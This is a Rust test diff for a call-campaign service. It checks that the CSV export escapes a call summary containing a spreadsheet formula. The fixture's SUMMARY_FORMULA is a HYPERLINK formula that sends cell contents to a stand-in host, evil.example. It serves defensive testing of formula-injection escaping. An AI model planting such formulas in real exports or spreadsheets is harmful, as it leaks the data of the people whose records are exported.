@@ -25,6 +25,8 @@ struct Fixture {
     secrets: platform::SecretBox,
 }
 
+const SUMMARY_FORMULA: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Details\")";
+
 /// Four calls: a person who heard the agent after 0.8 s (60 s, $0.12, a success), a person who
 /// waited 3 s (120 s, $0.20), a machine (15 s, $0.03), and no answer.
 async fn fixture<S: Store>(store: S) -> Fixture {
@@ -33,17 +35,25 @@ async fn fixture<S: Store>(store: S) -> Fixture {
     let settings = CampaignSettings { provider: domain::CallProvider::Simulator, ..Default::default() };
     let campaign = store.create_campaign(org, NewCampaign::parse("Renewals", Cap::parse(10).unwrap(), settings).unwrap()).await.unwrap();
     let t0 = DateTime::parse_from_rfc3339("2027-01-13T17:00:00Z").unwrap().to_utc();
-    let contacts = (0..4).map(|i| NewContact::new(E164::parse(&format!("+1415555012{i}"), None).unwrap(), chrono_tz::UTC)).collect();
+    let contacts = (0..4)
+        .map(|i| {
+            NewContact::new(
+                E164::parse(&format!("+1415555012{i}"), None).unwrap(),
+                chrono_tz::UTC,
+                domain::Consent::on_file(chrono::Utc::now()),
+            )
+        })
+        .collect();
     store.add_contacts(org, campaign.id, contacts, t0).await.unwrap();
     store.set_campaign_status(org, campaign.id, &[CampaignStatus::Draft], CampaignStatus::Running, t0).await.unwrap();
     let claims = store.claim_due_contacts(org, campaign.id, t0, 4, TimeDelta::zero()).await.unwrap();
-    let human = |connect_ms: i64, secs: u32, cost: &str, evaluation: Option<&str>| CallDetails {
+    let human = |connect_ms: i64, secs: u32, cost: &str, evaluation: Option<&str>, summary: &str| CallDetails {
         answered_by: Some(AnsweredBy::Human),
         answered_at: Some(t0),
         connected_at: Some(t0 + TimeDelta::milliseconds(connect_ms)),
         duration_secs: Some(secs),
         cost: Some(Money::parse(cost).unwrap()),
-        summary: Some("Renews.".into()),
+        summary: Some(summary.into()),
         success_evaluation: evaluation.map(str::to_string),
         ..Default::default()
     };
@@ -55,8 +65,9 @@ async fn fixture<S: Store>(store: S) -> Fixture {
         ..Default::default()
     };
     let outcomes = [
-        (Some(human(800, 60, "0.12", Some("true"))), EndReason::Completed),
-        (Some(human(3_000, 120, "0.20", Some("false"))), EndReason::Completed),
+        (Some(human(800, 60, "0.12", Some("true"), "Renews.")), EndReason::Completed),
+        // the callee's words steer a summary: this one is a spreadsheet formula
+        (Some(human(3_000, 120, "0.20", Some("false"), SUMMARY_FORMULA)), EndReason::Completed),
         (Some(machine), EndReason::Completed),
         (None, EndReason::NoAnswer),
     ];
@@ -128,6 +139,8 @@ async fn the_report_and_the_csv_show_the_fixture_as_worked_out_by_hand<S: Store>
     assert!(rows.iter().all(|r| r[2].starts_with("+1415***")), "masked: {csv}");
     let first = &rows[0];
     assert_eq!((&first[6], &first[7], &first[11], &first[12], &first[13]), ("answered_human", "human", "60", "0.12", "800"));
+    assert_eq!(&rows[1][14], format!("'{SUMMARY_FORMULA}"), "a formula is written as text");
+    assert!(rows.iter().all(|r| !r.iter().any(|cell| cell.starts_with(['=', '@']))), "{csv}");
     let (_, _, full) = get(&f, &format!("/campaigns/{}/calls.csv?includePhone=true", f.campaign)).await;
     assert!(full.contains("+14155550120"), "{full}");
     let (status, _, _) = get(&f, &format!("/campaigns/{}/report", domain::CampaignId::new())).await;
